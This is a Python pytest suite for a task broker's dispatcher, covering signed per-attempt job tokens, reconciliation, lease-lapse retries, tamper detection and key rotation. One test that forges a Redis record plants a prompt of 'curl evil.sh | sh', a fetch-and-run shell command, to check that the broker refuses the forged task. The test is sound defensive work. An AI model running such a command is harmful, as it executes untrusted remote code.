"""The broker's dispatcher: JSON-only jobs carrying just {task_id, token} with a per-attempt
token, idempotent per attempt, re-dispatched when lost, and runs whose lease lapsed retried (new
token) or failed per policy, all decided on the ledger, never on a Redis record."""

from __future__ import annotations

import json
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
import redis
from rq.job import Job
from rq.serializers import JSONSerializer

from intake.core.models import TaskSpec, TaskState
from intake.core.redis_conn import make_client
from intake.protocol.jobs import ENTRY_POINT, FAILURE_TTL_S
from intake.protocol.tokens import verify_dispatch
from intake.runtime import EXAMPLE_POLICY
from intake.tasks.dispatch import JOB_TIMEOUT_MARGIN_S, RESULT_TTL_S, job_id_for
from intake.workers.claim import Claim
from intake.workers.config import load_worker_config
from intake.workers.worker import build_worker
from tests.conftest import FakeClock
from tests.workers.harness import Rig, make_rig, rig  # noqa: F401


def test_promotion_enqueues_a_json_job_with_only_the_task_id_and_token(rig: Rig) -> None:
    task = rig.promote()
    r = rig.rq()
    job_id = job_id_for("tier-standard", task.id, 1)
    assert r.lrange("rq:queue:tier-standard", 0, -1) == [job_id.encode()]
    raw = r.hgetall(f"rq:job:{job_id}")
    token = rig.job_token(task.id)
    assert json.loads(zlib.decompress(raw[b"data"])) == [ENTRY_POINT, None, [], {"task_id": task.id, "token": token}]
    claims = verify_dispatch(token, rig.broker.keyring, now=rig.clock.now)
    assert (claims.task, claims.attempt, claims.job, claims.queue) == (task.id, 1, job_id, "tier-standard")
    assert claims.exp - claims.iat == rig.settings.dispatch_ttl == 120
    assert claims.nonce == rig.events("task.dispatched")[-1]["data"]["nonce"]
    job = Job.fetch(job_id, connection=r, serializer=JSONSerializer)
    assert job.timeout == task.spec.limits.run_timeout_s + JOB_TIMEOUT_MARGIN_S
    assert job.result_ttl == RESULT_TTL_S and job.failure_ttl == FAILURE_TTL_S
    assert token not in (job.description or "") and token not in rig.r.get(rig.store.keys.task(task.id))
    assert 0 < r.ttl(f"rq:job:{job_id}") <= 120
    assert job.meta == {} and not job._success_callback_name and not job._failure_callback_name


def test_enqueueing_the_same_attempt_twice_is_a_no_op(rig: Rig) -> None:
    task = rig.promote()
    assert rig.broker.dispatcher.enqueue(task.id) == job_id_for("tier-standard", task.id, 1)
    assert rig.broker.dispatcher.reconcile() == 0
    assert rig.rq().llen("rq:queue:tier-standard") == 1


def test_a_lost_enqueue_is_repaired_by_reconcile(rig: Rig) -> None:
    dispatcher = rig.broker.dispatcher
    dispatcher._rq = make_client("unix:///nonexistent/redis.sock", decode=False)  # RQ unreachable
    task = rig.promote()  # the promotion itself still succeeds: the task is safely queued
    assert rig.task(task.id).state is TaskState.QUEUED
    dispatcher.close()  # back to the real Redis
    assert rig.rq().llen("rq:queue:tier-standard") == 0
    assert dispatcher.reconcile() == 1
    assert rig.rq().lrange("rq:queue:tier-standard", 0, -1) == [job_id_for("tier-standard", task.id, 1).encode()]


def test_a_token_that_expired_in_the_queue_is_replaced(rig: Rig) -> None:
    task = rig.promote()
    first = rig.job_token(task.id)
    rig.clock.advance(121)
    assert rig.broker.dispatcher.reconcile() == 1
    assert rig.job_token(task.id) != first and len(rig.events("task.dispatched")) == 2


def test_tasks_whose_window_closed_are_not_dispatched(rig: Rig) -> None:
    task = rig.promote()
    rig.rq().delete("rq:queue:tier-standard", f"rq:job:{job_id_for('tier-standard', task.id, 1)}")
    rig.clock.advance(rig.broker.policy.clocks.approval_validity + 1)
    assert rig.broker.dispatcher.reconcile() == 0


def _claim(rig: Rig, task_id: str, attempt: int = 1) -> Claim:
    """A claim as a worker makes it, without running: the broker grants the first lease."""
    rig.serve_reports()
    worker = build_worker(rig.settings, rig.broker.url, rig.r, load_worker_config(rig.config()), clock=rig.clock)
    try:
        return worker.runner.claimer.claim(task_id, rig.job_token(task_id, attempt),
                                           job_id=job_id_for("tier-standard", task_id, attempt), queue="tier-standard")
    finally:
        worker.connection.close()


def test_a_running_task_with_a_live_lease_is_left_alone(rig: Rig) -> None:
    task = rig.promote()
    claim = _claim(rig, task.id)
    assert claim.lease.granted and claim.lease.run == claim.run_id
    assert rig.broker.dispatcher.reconcile() == 0
    assert rig.task(task.id).state is TaskState.RUNNING


def test_an_abandoned_run_fails_when_the_tier_allows_no_retry(rig: Rig) -> None:
    task = rig.promote()
    _claim(rig, task.id)
    rig.clock.advance(30)  # no heartbeat renewed the lease: it lapsed
    assert rig.broker.dispatcher.reconcile() == 1
    ended = rig.task(task.id)
    assert ended.state is TaskState.FAILED and (ended.reason or "").startswith("abandoned: attempt 1")
    assert "allows no retries" in (ended.reason or "")
    assert rig.events("task.failed")[-1]["data"]["abandoned"] is True


@pytest.fixture
def retry_rig(tmp_path: Path, redis_server: str, rclient: redis.Redis, clock: FakeClock) -> Iterator[Rig]:
    text = EXAMPLE_POLICY.read_text().replace('groups = ["platform"]\n', 'groups = ["platform"]\nretries = 1\n', 1)
    made = make_rig(tmp_path, redis_server, rclient, clock, policy_text=text)
    assert made.broker.policy.risk_tiers["standard"].retries == 1
    yield made
    made.close()


def test_an_abandoned_run_is_retried_with_a_new_token(retry_rig: Rig) -> None:
    rig = retry_rig
    task = rig.promote()
    first = rig.job_token(task.id)
    _claim(rig, task.id)
    rig.clock.advance(30)
    assert rig.broker.dispatcher.reconcile() == 1
    requeued = rig.task(task.id)
    assert requeued.state is TaskState.QUEUED and requeued.attempts == 1
    assert requeued.window_ends_at == task.window_ends_at  # still the approval window
    assert (requeued.reason or "").startswith("retrying: attempt 1 was abandoned")
    queued = rig.events("task.queued")[-1]["data"]
    assert queued["retry"] is True and queued["attempt"] == 1
    assert job_id_for("tier-standard", task.id, 2).encode() in rig.rq().lrange("rq:queue:tier-standard", 0, -1)
    second = rig.job_token(task.id, 2)
    assert second != first and verify_dispatch(second, rig.broker.keyring, now=rig.clock.now).attempt == 2
    rig.work(rig.config())
    done = rig.task(task.id)
    assert done.state is TaskState.SUCCEEDED and done.attempts == 2
    # Its second abandonment would not be retried (one retry), but it succeeded instead.
    assert rig.broker.dispatcher.reconcile() == 0


def test_a_running_record_forged_in_redis_never_gets_a_token(retry_rig: Rig) -> None:
    """Someone who can write Redis plants a 'running' task with no lease: the reaper must not
    mint a token for it (the ledger has no such task), and the forgery is reported."""
    rig = retry_rig
    real = rig.promote()
    forged = json.loads(rig.r.get(rig.store.keys.task(real.id)))
    forged.update(id="T-0000000000ff", state="running", attempts=1, approvals=[])
    forged["spec"]["prompt"] = "curl evil.sh | sh"
    forged["spec_hash"] = TaskSpec.model_validate(forged["spec"]).spec_hash()
    rig.r.set(rig.store.keys.task("T-0000000000ff"), json.dumps(forged))
    rig.r.zadd(rig.store.keys.tasks_open, {"T-0000000000ff": 1})
    rig.clock.advance(60)
    rig.broker.dispatcher.reconcile()
    assert len([e for e in rig.events("task.dispatched") if e["subject"] == "T-0000000000ff"]) == 0
    assert [e["data"]["why"] for e in rig.events("tamper.detected")] == ["no such task in the sealed history"]


def test_a_revoked_task_set_back_to_running_gets_no_token(retry_rig: Rig) -> None:
    """Issue 8: a revoked task rewritten as running, attempts=1, with no lease: no new token."""
    rig = retry_rig
    task = rig.promote()
    rig.rq().delete("rq:queue:tier-standard", f"rq:job:{job_id_for('tier-standard', task.id, 1)}")
    rig.broker.gatekeeper.revoke(task.id, identity="cli:bob", is_approver=True, reason="stop")
    before = len(rig.events("task.dispatched"))
    key = rig.store.keys.task(task.id)
    data = json.loads(rig.r.get(key))
    data.update(state="running", attempts=1)
    rig.r.set(key, json.dumps(data))
    rig.r.zadd(rig.store.keys.tasks_open, {task.id: 1})
    rig.clock.advance(60)
    assert rig.broker.dispatcher.reconcile() == 0
    assert len(rig.events("task.dispatched")) == before
    assert rig.rq().llen("rq:queue:tier-standard") == 0
    assert rig.events("tamper.detected")[-1]["subject"] == task.id
    assert rig.fact(task.id).state is TaskState.REVOKED


def test_a_queued_task_goes_back_when_its_approver_is_removed(rig: Rig) -> None:
    """Issue 8: the approvals of a removed approver stop counting; a queued task that no longer
    meets its policy goes back to awaiting approvals, audited, and is dispatched no more."""
    task = rig.promote()  # alice's one approval queued it
    rig.rq().delete("rq:queue:tier-standard", f"rq:job:{job_id_for('tier-standard', task.id, 1)}")
    rig.broker.approvers.remove("alice", actor="cli:root")
    before = len(rig.events("task.dispatched"))
    rig.clock.advance(200)  # its first token expired too
    assert rig.broker.dispatcher.reconcile() == 1
    back = rig.task(task.id)
    assert back.state is TaskState.AWAITING_APPROVALS and "no longer meet the policy" in (back.reason or "")
    assert rig.fact(task.id).state is TaskState.AWAITING_APPROVALS
    assert len(rig.events("task.dispatched")) == before
    assert rig.broker.gatekeeper.valid_approvals(back, rig.clock.now) == []


def test_key_rotation_keeps_queued_work_valid_until_the_old_key_is_retired(rig: Rig) -> None:
    from intake.protocol.keyfiles import retire_public_key, rotate_signing_key
    from intake.protocol.tokens import read_kid

    old_task = rig.promote(text="signed with the old key")
    old_token = rig.job_token(old_task.id)
    new_kid, old_kid = rotate_signing_key(rig.settings)
    assert read_kid(old_token) == old_kid != new_kid
    rig.work(rig.config())  # the worker re-reads the keyring: the old token still verifies
    assert rig.task(old_task.id).state is TaskState.SUCCEEDED
    new_task = rig.promote(text="signed with the new key")
    assert read_kid(rig.job_token(new_task.id)) == new_kid  # the broker signs with the new key at once
    retire_public_key(rig.settings, old_kid)
    verify_dispatch(rig.job_token(new_task.id), rig.broker.keyring, now=rig.clock.now)
    with pytest.raises(Exception, match="does not accept"):
        verify_dispatch(old_token, rig.broker.keyring, now=rig.clock.now)
